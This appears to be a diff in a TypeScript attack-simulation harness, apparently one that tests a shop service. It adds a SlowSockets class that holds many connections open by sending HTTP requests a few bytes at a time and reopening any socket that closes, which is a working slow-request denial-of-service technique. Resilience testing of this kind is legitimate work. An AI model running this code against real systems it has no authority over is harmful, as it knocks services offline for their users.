@@ -9,10 +9,9 @@ import { requestKinds } from '../http/request-kinds.ts';
 import { StalledClient } from '../http/stalled-clients.ts';
 import type { Attacking, AttackName } from './attack-request.ts';
 import { shopOrigin } from './attacked-service.ts';
-import { SlowSockets } from './slow-sockets.ts';
 
 /** Runs an attack until its signal is aborted. */
-export type Attack = (attack: Attacking) => Promise<void>;
+type Attack = (attack: Attacking) => Promise<void>;
 
 const json = { 'Content-Type': 'application/json' };
 const mebibyte = 1024 * 1024;
@@ -205,4 +204,48 @@ function over(signal: AbortSignal): Promise<void> {
     if (signal.aborted) resolve();
     else signal.addEventListener('abort', () => resolve());
   });
+}
+
+/** Two hundred bytes, four times a second: faster than the minimum that the service requires. */
+const drip = 'a'.repeat(200);
+const dripMs = 250;
+
+/** Sockets that begin a request, send it slowly, and are opened again when they are closed. */
+class SlowSockets {
+  readonly #attack: Attacking;
+  readonly #beginnings: readonly Buffer[];
+  readonly #sockets = new Set<Socket>();
+
+  constructor(attack: Attacking, beginnings: readonly string[]) {
+    this.#attack = attack;
+    this.#beginnings = beginnings.map((text) => Buffer.from(text, 'latin1'));
+  }
+
+  async untilOver(): Promise<void> {
+    const { signal, sockets } = this.#attack;
+    for (let n = 0; n < sockets; n++) this.#open(n);
+    while (!signal.aborted) {
+      await sleep(dripMs);
+      let n = 0;
+      // Half of them are slower than any modem.
+      for (const socket of this.#sockets) if (socket.writable) socket.write(n++ % 2 === 0 ? drip : 'a');
+    }
+    for (const socket of this.#sockets) socket.destroy();
+  }
+
+  #open(n: number): void {
+    const { origin, address, signal, note } = this.#attack;
+    const { hostname, port } = new URL(origin);
+    const socket = connect({ host: hostname, port: Number(port), localAddress: address });
+    this.#sockets.add(socket);
+    socket.on('error', () => undefined);
+    socket.on('data', (bytes: Buffer) =>
+      note(Number(/^HTTP\/1\.\d (\d{3})/.exec(`${bytes}`)?.[1]) || 'none'),
+    );
+    socket.once('connect', () => socket.write(this.#beginnings[n % this.#beginnings.length] as Buffer));
+    socket.once('close', () => {
+      this.#sockets.delete(socket);
+      setTimeout(() => signal.aborted || this.#open(n), dripMs);
+    });
+  }
 }
